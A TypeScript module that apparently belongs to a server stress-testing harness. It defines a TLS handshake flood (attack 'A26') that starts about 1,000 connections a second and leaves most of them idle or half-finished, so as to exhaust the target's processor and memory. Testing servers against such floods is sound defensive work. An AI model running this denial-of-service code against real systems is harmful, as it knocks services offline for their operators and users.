import type { Attack, AttackGround } from '../attack.js';
import { clientHello } from '../client-hello.js';

/** Connections that are begun a second, */
const RATE = 1_000;
/** and at most at a time, when the machine was busy otherwise. */
const AT_A_TIME = 100;
const TICK_MS = 5;
/** How long an answer is waited for. */
const ANSWER_MS = 3_000;

/** Has the target answer, and says no more, or leaves at once. */
async function begin(ground: AttackGround, source: number, hello: Buffer, stays: boolean): Promise<void> {
  const peer = await ground.dial({ source });
  if (peer === undefined) {
    return;
  }
  const answered = new Promise<void>(resolve => {
    peer.read(() => {
      ground.progress();
      resolve();
    });
  });
  await peer.write(hello);
  await Promise.race(stays ? [peer.closed] : [peer.closed, answered, ground.pause(ANSWER_MS)]);
  peer.close();
}

/** Goes through with it, and leaves. */
async function finish(ground: AttackGround, source: number): Promise<void> {
  const peer = await ground.connect({ source });
  if (peer !== undefined) {
    ground.progress();
    peer.close();
  }
}

export const handshakeFlood: Attack = {
  id: 'A26',
  title: '1,000 TLS handshakes a second: begun, left half-way, or finished for nothing',
  exhausts: 'the processor and memory',
  isForTls: true,
  async run(ground) {
    const hello = await clientHello();
    const start = performance.now();
    let begun = 0;
    while (!ground.signal.aborted) {
      const due = Math.floor(((performance.now() - start) * RATE) / 1_000);
      for (begun = Math.max(begun, due - AT_A_TIME); begun < due; begun++) {
        // It costs the attacker as much as the target to finish them.
        const turn = begun % 10;
        void (turn === 9 ? finish(ground, begun) : begin(ground, begun, hello, turn < 7));
      }
      await ground.pause(TICK_MS);
    }
  },
};
